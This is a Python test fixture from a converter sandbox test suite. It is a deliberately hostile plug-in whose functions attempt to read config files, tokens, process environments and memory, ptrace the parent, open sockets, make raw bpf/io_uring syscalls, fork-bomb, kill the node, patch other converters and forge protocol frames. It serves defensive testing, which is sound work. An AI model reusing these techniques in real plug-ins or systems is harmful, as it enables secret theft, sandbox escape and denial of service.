"""A hostile converter plug-in: a valid converter that attacks the station it runs on.

The suite (``tests/sandbox/_station.py``) writes one copy of this file per attack and moment,
with :data:`SETTINGS` filled in (the worker's environment is scrubbed and a converter's
arguments only reach ``convert()``, so the switch is in the file itself). The plug-in needs
nothing outside the standard library, msgspec and the installed ``converters`` package: under the
sandbox it can read its own file and the Python installation, nothing of the suite.

``SETTINGS["moment"]`` says when the attack runs: ``import`` (once, while the module is
imported), ``convert`` (in ``convert()`` of a file starting with ``ATTACK``) or ``thread`` (from a
thread started at import, which keeps trying until it succeeds or its time is up).

Whatever an attack gets is written into the report ``convert()`` returns, as misc infos starting
with ``LOOT:<tag>`` (what a real plug-in would exfiltrate through the normal upload); an attack
that was refused makes ``convert()`` raise ``hostile <attack> (<moment>) blocked: <error>``, so
the attempt shows in the error sidecar. Attacks that act rather than read (forged frames,
patches, processes left behind) return an ordinary report once they have acted.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from typing import Any, ClassVar

import msgspec

from converters import Converter, FileRejected, NoArguments

SETTINGS: dict[str, Any] = {}  # HOSTILE-SETTINGS (replaced in every generated copy)

_S = SETTINGS
_ATTACK: str = _S.get("attack", "none")
_MOMENT: str = _S.get("moment", "convert")
_TAG: str = _S.get("tag", "none")
_SECRET_RE = re.compile(rb"HOSTILE-[A-Z]+-[0-9a-f]{16,64}")
_NIL = "00000000-0000-0000-0000-000000000000"

_results: list[tuple[bool, str]] = []  # (succeeded, loot or error) of every attempt
_attempted = threading.Event()


class Blocked(Exception):
    """The attack could not be carried out (the reason is the message)."""


# -- reports -------------------------------------------------------------------------------------


def _report(sn: str, loot: Sequence[str] = (), report_id: str = _NIL) -> dict[str, Any]:
    """A small valid UUT report; each loot string becomes a misc info (100 characters each)."""
    report: dict[str, Any] = {
        "type": "T",
        "id": report_id,
        "pn": "HOSTILE-PN",
        "sn": sn[:100],
        "rev": "A",
        "processCode": 10,
        "result": "P",
        "machineName": "hostile",
        "location": "nowhere",
        "purpose": "attack",
        "start": "2026-03-02T14:05:00.000+01:00",
        "uut": {"user": "hostile", "execTime": 1.0},
        "root": {
            "id": 1,
            "group": "M",
            "stepType": "SequenceCall",
            "name": "MainSequence Callback",
            "status": "P",
            "steps": [],
        },
    }
    if loot:
        report["miscInfos"] = [{"description": "loot", "text": text[:100]} for text in loot]
    return report


def _loot(*parts: str) -> list[str]:
    return [f"LOOT:{_TAG}:{part}"[:100] for part in parts]


def _secrets_in(data: bytes) -> list[str]:
    return sorted({match.decode() for match in _SECRET_RE.findall(data)})


# -- finding the node ----------------------------------------------------------------------------


def _node_pids() -> list[int]:
    """The worker's parent and the processes whose command line names this station's
    configuration (what an attacker scanning /proc finds). Only this station's processes: the
    suite harms nothing else on the machine."""
    found = []
    parent = os.getppid()
    if parent > 1:  # 0 in a PID namespace of its own; always one of this station's processes
        found.append(parent)
    marker = _S["node_marker"].encode()
    try:
        entries = os.listdir("/proc")
    except OSError:
        entries = []
    for entry in entries:
        if not entry.isdigit() or int(entry) in (os.getpid(), parent):
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                command = f.read()
        except OSError:
            continue
        if marker in command and b"converters._worker" not in command:
            found.append(int(entry))
    if not found:
        raise Blocked("no process of the node is visible (no parent, nothing in /proc)")
    return found


# -- the attacks ---------------------------------------------------------------------------------


def _read_file(path: str) -> str:
    with open(path, "rb") as f:
        data = f.read(1 << 20)
    return ";".join(_secrets_in(data)) or f"read {len(data)} bytes of {path}"


def attack_read_config() -> list[str]:
    return _loot(_read_file(_S["config"]))


def attack_read_token() -> list[str]:
    return _loot(_read_file(_S["token_file"]))


def attack_read_spool() -> list[str]:
    got = []
    folder = _S["data_dir"]
    for name in sorted(os.listdir(folder)):
        path = os.path.join(folder, name)
        if os.path.isfile(path):
            got.append(_read_file(path))
    if not got:  # listing worked, so this is no refusal
        raise RuntimeError(f"no file in {folder}")
    return _loot(*got)


def attack_read_environ() -> list[str]:
    return _loot(*(_read_file(f"/proc/{pid}/environ") for pid in _node_pids()))


def attack_read_memory() -> list[str]:
    """Read the node's writable memory through /proc/<pid>/mem, then process_vm_readv."""
    pid = _node_pids()[-1]  # the node itself when /proc shows it, else the parent
    found: set[str] = set()
    total = 0
    errors = []
    try:
        with open(f"/proc/{pid}/maps") as f:
            regions = [line.split() for line in f]
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            for region in regions:
                if not region[1].startswith("rw"):
                    continue
                start, end = (int(x, 16) for x in region[0].split("-"))
                for at in range(start, min(end, start + (64 << 20)), 1 << 20):
                    try:
                        mem.seek(at)
                        chunk = mem.read(min(1 << 20, end - at))
                    except OSError:
                        break
                    total += len(chunk)
                    found.update(_secrets_in(chunk))
                if total > (512 << 20):
                    break
    except OSError as exc:
        errors.append(f"/proc/{pid}/mem: {exc}")
    if total:
        return _loot(f"read {total} bytes of the node's memory", *sorted(found))
    buffer = ctypes.create_string_buffer(4096)
    local = (ctypes.c_void_p * 2)(ctypes.cast(buffer, ctypes.c_void_p), 4096)
    remote = (ctypes.c_void_p * 2)(0x400000, 4096)
    libc = ctypes.CDLL(None, use_errno=True)
    got = libc.process_vm_readv(pid, local, 1, remote, 1, 0)
    if got > 0:
        return _loot(f"process_vm_readv read {got} bytes of the node")
    errors.append(f"process_vm_readv: {os.strerror(ctypes.get_errno())}")
    raise Blocked("; ".join(errors))


def attack_ptrace() -> list[str]:
    pid = _node_pids()[-1]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    attach, detach, peek = 16, 17, 2
    if libc.ptrace(attach, pid, None, None) != 0:
        raise Blocked(f"ptrace(PTRACE_ATTACH, {pid}): {os.strerror(ctypes.get_errno())}")
    try:
        os.waitpid(pid, 0x40000000)  # __WALL: the tracee stops
        word = libc.ptrace(peek, pid, ctypes.c_void_p(0x400000), None)
    finally:
        libc.ptrace(detach, pid, None, None)
    return _loot(f"ptrace attached to the node {pid}, peeked {word & 0xFFFF:#x}")


def attack_shell() -> list[str]:
    out = subprocess.run(
        ["/bin/sh", "-c", "echo SHELL-$((6 * 7))-$((1000 + 337))"],
        capture_output=True,
        timeout=10,
        check=True,
    )
    return _loot(out.stdout.decode().strip())


def attack_program() -> list[str]:
    out = subprocess.run(
        ["/usr/bin/expr", "123456", "+", "654321"], capture_output=True, timeout=10, check=True
    )
    return _loot("PROGRAM-" + out.stdout.decode().strip())


def attack_tcp() -> list[str]:
    got = []
    with socket.create_connection((_S["host"], _S["server_port"]), timeout=3) as conn:
        conn.sendall(b"GET /api/app/version HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        got.append("server said " + conn.recv(200).decode("latin-1").split("\r\n")[0])
    with socket.create_connection((_S["host"], _S["tcp_port"]), timeout=3) as conn:
        conn.sendall(_TAG.encode())
        got.append("connected to the listener")
    return _loot(*got)


def attack_udp() -> list[str]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(_TAG.encode(), (_S["host"], _S["udp_port"]))
    return _loot("sent a datagram")


def attack_unix_path() -> list[str]:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        sock.connect(_S["unix_path"])
        sock.sendall(_TAG.encode())
    return _loot("connected to " + _S["unix_path"])


def attack_unix_abstract() -> list[str]:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        sock.connect("\0" + _S["unix_abstract"])
        sock.sendall(_TAG.encode())
    return _loot("connected to @" + _S["unix_abstract"])


def attack_netlink() -> list[str]:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.bind((0, 0))
        # RTM_GETLINK dump: the host's network interfaces
        request = bytes.fromhex("2000000012000103") + bytes(8) + bytes(16)
        sock.send(request)
        answer = sock.recv(65536)
    return _loot(f"netlink answered {len(answer)} bytes")


def attack_read_other_folder() -> list[str]:
    """Read another watch folder's input files (a worker gets only the bytes sent to it)."""
    folder = _S["other_folder"]
    names = [name for name in sorted(os.listdir(folder)) if name.endswith(".txt")]
    if not names:  # the suite keeps a file there: listing worked, so this is no refusal
        raise RuntimeError(f"no file to read in {folder}")
    return _loot(*(_read_file(os.path.join(folder, name)) for name in names))


def attack_read_host_file() -> list[str]:
    """Read a file of the machine's that only root may read, outside everything the node
    knows of (the suite's stand-in for /etc/shadow, holding a secret)."""
    return _loot(_read_file(_S["host_file"]))


_SYSCALLS = {
    "x86_64": {"keyctl": 250, "bpf": 321, "io_uring_setup": 425, "perf_event_open": 298},
    "aarch64": {"keyctl": 219, "bpf": 280, "io_uring_setup": 425, "perf_event_open": 241},
}


def _syscall(name: str, *args: Any) -> int:
    """Make the raw system call ``name``; its result (a descriptor is closed again).

    Raises:
        OSError: it failed (its errno).
        RuntimeError: this architecture's number is not known here (a bug, not a refusal).
    """
    import platform

    numbers = _SYSCALLS.get(platform.machine())
    if numbers is None:
        raise RuntimeError(f"no system call numbers for {platform.machine()}")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    result = int(libc.syscall(numbers[name], *args))
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, f"{name}: {os.strerror(code)}")
    return result


def _closed(fd: int) -> int:
    os.close(fd)
    return fd


def attack_keyctl() -> list[str]:
    keyring = _syscall("keyctl", 0, -3, 0)  # KEYCTL_GET_KEYRING_ID of the session keyring
    return _loot(f"session keyring {keyring}")


def attack_bpf() -> list[str]:
    attr = (ctypes.c_uint32 * 5)(2, 4, 4, 1, 0)  # BPF_MAP_CREATE: an array, 1 entry
    fd = _closed(_syscall("bpf", 0, ctypes.byref(attr), ctypes.sizeof(attr)))
    return _loot(f"created a BPF map (fd {fd})")


def attack_io_uring() -> list[str]:
    params = (ctypes.c_uint8 * 120)()
    fd = _closed(_syscall("io_uring_setup", 1, ctypes.byref(params)))
    return _loot(f"set up an io_uring (fd {fd})")


def attack_perf_event() -> list[str]:
    attr = (ctypes.c_uint8 * 128)()
    ctypes.memmove(attr, (ctypes.c_uint32 * 2)(1, 128), 8)  # software cpu-clock on itself
    fd = _closed(_syscall("perf_event_open", ctypes.byref(attr), 0, -1, -1, 0))
    return _loot(f"opened a perf event (fd {fd})")


def attack_unshare_mount() -> list[str]:
    """In a child (unshare needs a single thread): new user and mount namespaces, then mount
    a tmpfs: the kernel's namespace code is attack surface a converter never needs."""
    child = os.fork()
    if child == 0:
        code = 0
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            libc.mount.argtypes = [*[ctypes.c_char_p] * 3, ctypes.c_ulong, ctypes.c_char_p]
            if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
                code = 10
            elif libc.mount(None, b"/", None, 0x4000 | 0x40000, None) != 0:  # MS_REC|PRIVATE
                code = 11
            elif libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=64k") != 0:
                code = 12
            errno_value = ctypes.get_errno() if code else 0
            os.write(2, f"unshare-mount step {code}: errno {errno_value}\n".encode())
        finally:
            os._exit(code)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if status != 0:
        what = {10: "unshare", 11: "making / private", 12: "mounting a tmpfs"}
        raise Blocked(f"{what.get(status, f'the child ({status})')} failed")
    return _loot("mounted a tmpfs in namespaces of its own")


def _write_marker(path: str, text: str) -> list[str]:
    with open(path, "x") as f:
        f.write(text)
    return _loot("wrote " + path)


def attack_write_pth() -> list[str]:
    # a comment line only: a .pth file that got through must not run anything
    return _write_marker(_S["pth_file"], f"# pywats hostile suite {_TAG}\n")


def attack_write_config_dir() -> list[str]:
    return _write_marker(_S["config_dir_marker"], _TAG)


def attack_write_spool_dir() -> list[str]:
    return _write_marker(_S["spool_dir_marker"], _TAG)


def attack_write_shared_tmp() -> list[str]:
    return _write_marker(_S["shared_tmp_marker"], _TAG)


def attack_fill_temp() -> list[str]:
    """Write files of 8 MiB into the temporary folder until well past its size limit. A limit
    on the size of one file (EFBIG) is no limit on the total: the next file goes on; only a
    full folder (ENOSPC, EDQUOT) stops it, and the error says how much was written."""
    folder = os.environ.get("TMPDIR") or os.getcwd()
    target = _S["fill_bytes"]
    written = 0
    block = b"\xa5" * (1 << 20)
    index = 0
    while written < target:
        path = os.path.join(folder, f"hostile-fill-{_TAG}-{os.getpid()}-{index}")
        index += 1
        try:
            with open(path, "wb", buffering=0) as f:
                for _ in range(8):
                    f.write(block)
                    written += len(block)
                    if written >= target:
                        break
        except OSError as exc:
            if exc.errno != errno.EFBIG:
                raise Blocked(f"{_describe(exc)} after writing {written >> 20} MiB") from None
    return _loot(f"wrote {written >> 20} MiB to {folder}")


def _set_name(name: str) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(15, ctypes.c_char_p(name.encode()), 0, 0, 0)  # PR_SET_NAME


def _linger(name: str) -> None:
    """Be a marked process that stays around (bounded), then exit; never returns."""
    try:
        _set_name(name)
        end = time.monotonic() + _S["linger_seconds"]
        while time.monotonic() < end:
            time.sleep(0.2)
    finally:
        os._exit(0)


def attack_daemon() -> list[str]:
    """Switch off the child-subreaper flag, then leave a setsid double-forked daemon."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(36, 0, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER off
    middle = os.fork()
    if middle == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                _linger(_S["comm"])
        finally:
            os._exit(0)
    os.waitpid(middle, 0)
    return ["daemon started"]


def attack_fork_loop() -> list[str]:
    """Leave a child that keeps forking (a new pid every 50 ms), in a session of its own."""
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
            _set_name(_S["comm"])
            end = time.monotonic() + _S["linger_seconds"]
            while time.monotonic() < end:
                time.sleep(0.05)
                if os.fork() != 0:
                    os._exit(0)
                _set_name(_S["comm"])
        finally:
            os._exit(0)
    return ["fork loop started"]


def attack_kill_node() -> list[str]:
    killed = []
    for pid in _node_pids():
        os.kill(pid, 9)
        killed.append(str(pid))
    return _loot("SIGKILL sent to the node " + ",".join(killed))


def attack_patch_csv() -> list[str]:
    """Patch the built-in CSV converter in ``sys.modules``: every report it makes carries
    this plug-in's loot (another folder's reports would change)."""
    import converters._csv as csv_module
    from pywats_actors.report import UURReport, UUTReport, encode_report

    cls = csv_module.CsvConverter
    guard = f"_hostile_patched_{_TAG}"
    if getattr(cls, guard, False):
        return ["patched"]
    original = cls.convert_iter  # maybe another plug-in's patch already: this one wraps it

    def forged(item: Any) -> dict[str, Any]:
        if isinstance(item, UUTReport | UURReport):
            item = encode_report(item)
        report = json.loads(item) if isinstance(item, bytes | bytearray) else dict(item)
        loot = [{"description": "loot", "text": text} for text in _loot("csv")]
        report["miscInfos"] = [*report.get("miscInfos", []), *loot]
        return dict(report)

    def convert_iter(self: Any, data: bytes, name: str, args: Any) -> Iterator[Any]:
        for item in original(self, data, name, args):
            yield forged(item)

    def convert(self: Any, data: bytes, name: str, args: Any) -> list[Any]:
        return list(convert_iter(self, data, name, args))

    cls.convert_iter = convert_iter
    cls.convert = convert
    setattr(cls, guard, True)
    return ["patched"]


def _in_a_thread(original: Callable[..., Any]) -> Callable[..., Any]:
    """``original`` run in a throwaway thread: what binds only the calling thread binds that
    one, and the worker still gets the answer it expects."""

    def run(*args: Any, **kwargs: Any) -> Any:
        box: dict[str, Any] = {}

        def call() -> None:
            try:
                box["result"] = original(*args, **kwargs)
            except BaseException as exc:
                box["error"] = exc

        thread = threading.Thread(target=call)
        thread.start()
        thread.join()
        if "error" in box:
            raise box["error"]
        return box.get("result")

    return run


def attack_disable_lockdown() -> list[str]:
    """Make every lock-down function the worker could still call bind a throwaway thread
    instead of the worker, then read the token (the sandbox must already hold, whatever the
    worker's code does later)."""
    import importlib

    for name in ("_sandbox", "_landlock", "_seccomp", "_namespaces", "_worker"):
        try:
            module = importlib.import_module(f"converters.{name}")
        except Exception:
            continue
        for attr in dir(module):
            if any(word in attr for word in ("lock_down", "install", "restrict")):
                value = getattr(module, attr)
                if callable(value) and not isinstance(value, type):
                    setattr(module, attr, _in_a_thread(value))
    return _loot(_read_file(_S["token_file"]))


# -- forged protocol frames ----------------------------------------------------------------------


def _protocol_fds() -> list[int]:
    """``converters._worker.protocol_fd``, else every pipe this process may write to (but its
    standard output and error)."""
    try:
        from converters import _worker

        fd = int(getattr(_worker, "protocol_fd", -1))
    except Exception:
        fd = -1
    if fd > 2:
        return [fd]
    import fcntl

    found = []
    for entry in os.listdir("/proc/self/fd"):
        candidate = int(entry)
        if candidate <= 2:
            continue
        try:
            if not os.readlink(f"/proc/self/fd/{entry}").startswith("pipe:"):
                continue
            flags = fcntl.fcntl(candidate, fcntl.F_GETFL)
        except OSError:
            continue
        if flags & (os.O_WRONLY | os.O_RDWR):
            found.append(candidate)
    if not found:
        raise Blocked("no protocol pipe to write to")
    return found


def _current_request() -> tuple[int | None, str | None]:
    """The job and converter of the request being served, from the worker's own frames."""
    for frame in sys._current_frames().values():
        while frame is not None:
            request = frame.f_locals.get("request")
            job = getattr(request, "job", None)
            if isinstance(job, int):
                return job, getattr(request, "converter", None)
            frame = frame.f_back
    return None, None


def _done_frame(job: int, converter: str, reports: list[bytes]) -> bytes:
    """A ``Done`` frame in the worker's own protocol (fields it does not know are zeroed)."""
    from converters import _protocol

    values: dict[str, Any] = {"job": job, "converter": converter, "reports": reports}
    zero = {"float": 0.01, "int": 0, "bool": False, "str": "", "list": []}
    fields = msgspec.structs.fields(_protocol.Done)
    for field in fields:
        if field.name not in values and field.required:
            kind = getattr(field.type, "__name__", str(field.type))
            values[field.name] = zero.get(kind)
    frame: bytes = _protocol.encode_frame(_protocol.Done(**values))
    return frame


def _forge(make: Callable[[int, str], list[bytes]]) -> list[str]:
    """Write the frames ``make`` forges for the job being served (or, while no job is, for
    each of the first jobs the parent will number) to the protocol pipe, one at a time."""
    job, alias = _current_request()
    jobs = [job] if job is not None else list(range(1, 33))
    fds = _protocol_fds()
    written = 0
    for number in jobs:
        for frame in make(number, alias or _S["name"]):
            for fd in fds:
                view = memoryview(frame)
                while view:
                    view = view[os.write(fd, view) :]
            written += len(frame)
    return [f"wrote {written} bytes of forged frames"]


def _wsjf(report: dict[str, Any]) -> bytes:
    return msgspec.json.encode(report)


def attack_forge_unknown() -> list[str]:
    report = _wsjf(_report(f"HX-{_TAG}", _loot("forged")))
    return _forge(lambda job, alias: [_done_frame(job, "no-such-converter", [report])])


def attack_forge_other_name() -> list[str]:
    report = _wsjf(_report(f"HX-{_TAG}", _loot("forged"), report_id=_S["forged_id"]))
    target = _S["other_aliases"][0]
    return _forge(lambda job, alias: [_done_frame(job, target, [report])])


def attack_forge_future_job() -> list[str]:
    report = _wsjf(_report(f"HX-{_TAG}", _loot("forged")))
    return _forge(lambda job, alias: [_done_frame(job + n, alias, [report]) for n in range(1, 4)])


def attack_forge_huge() -> list[str]:
    """A 1,000,000-step answer (about 150 MB of WSJF), built as bytes."""
    head = _report(f"HX-{_TAG}", _loot("huge"))
    step = (
        b'{"id":%d,"group":"M","stepType":"ET_NLT","name":"s","status":"P",'
        b'"numericMeas":[{"compOp":"GELE","status":"P","unit":"V","value":1.0,'
        b'"lowLimit":0.0,"highLimit":2.0}]}'
    )
    steps = b",".join(step % n for n in range(2, _S["huge_steps"] + 2))
    text = _wsjf(head)
    body = text.replace(b'"steps":[]', b'"steps":[' + steps + b"]", 1)
    del steps
    return _forge(lambda job, alias: [_done_frame(job, alias, [body])])


ATTACKS: dict[str, Callable[[], list[str]]] = {
    name.removeprefix("attack_").replace("_", "-"): value
    for name, value in list(globals().items())
    if name.startswith("attack_")
}
_ACTS = {
    "daemon",
    "fork-loop",
    "patch-csv",
    "forge-unknown",
    "forge-other-name",
    "forge-future-job",
    "forge-huge",
    "keep-ids",
}
"""Attacks that act instead of taking something: a report comes back once they have acted."""


# -- when the attack runs ------------------------------------------------------------------------


_REFUSALS = (OSError, Blocked, subprocess.SubprocessError, ImportError)
"""What a sandbox's refusal looks like from inside; anything else is a bug of this plug-in,
reported as ``broken`` so that it never passes for a blocked attack."""


def _describe(exc: BaseException) -> str:
    if isinstance(exc, Blocked):
        return str(exc)
    text = f"{type(exc).__name__}: {exc}"
    if not isinstance(exc, _REFUSALS):
        return f"BROKEN (a bug of the hostile plug-in, not a refusal): {text}"
    if isinstance(exc, OSError) and exc.errno is not None:
        text += f" ({errno.errorcode.get(exc.errno, exc.errno)})"
    return text


def _attempt() -> bool:
    """Run the attack once; True when it succeeded."""
    try:
        if _ATTACK == "keep-ids":
            HostileConverter.keeps_source_ids = True
            got = ["claims to keep source ids"]
        else:
            got = ATTACKS[_ATTACK]()
    except BaseException as exc:
        _results.append((False, _describe(exc)))
        return False
    else:
        _results.append((True, "\n".join(got)))
        return True
    finally:
        _attempted.set()


def _keep_trying() -> None:
    end = time.monotonic() + _S["thread_seconds"]
    while not _attempt() and time.monotonic() < end:
        time.sleep(0.1)


class HostileConverter(Converter[NoArguments]):
    """Converts any file to one report, after (or instead of) attacking."""

    name: ClassVar[str] = _S.get("name", "hostile")
    version: ClassVar[str] = "6.6.6"
    keeps_source_ids: ClassVar[bool] = _ATTACK == "keep-ids" and _MOMENT == "import"

    def convert(self, data: bytes, name: str, args: NoArguments) -> list[Any]:
        if not data.startswith(b"ATTACK"):
            return [_report(f"HX-{_TAG}-{name}")]
        if _MOMENT == "convert":
            _attempt()
        elif not _attempted.wait(10):
            raise FileRejected(f"hostile {_ATTACK} ({_MOMENT}) never ran its attack")
        wins = [text for ok, text in _results if ok]
        if _ATTACK == "keep-ids" and wins:
            return [_report(f"HX-{_TAG}", report_id=_S["victim_id"])]
        if wins and _ATTACK in _ACTS:
            return [_report(f"HX-{_TAG}-acted")]
        if wins:
            return [_report(f"HX-{_TAG}", wins[0].splitlines())]
        verdict = _results[-1][1]
        if verdict.startswith("BROKEN"):
            raise FileRejected(f"hostile {_ATTACK} ({_MOMENT}) {verdict}")
        raise FileRejected(f"hostile {_ATTACK} ({_MOMENT}) blocked: {verdict}")


if _ATTACK in ATTACKS or _ATTACK == "keep-ids":
    if _MOMENT == "import":
        _attempt()
    elif _MOMENT == "thread":
        threading.Thread(target=_keep_trying, name="hostile", daemon=True).start()

__all__ = ["ATTACKS", "SETTINGS", "HostileConverter"]
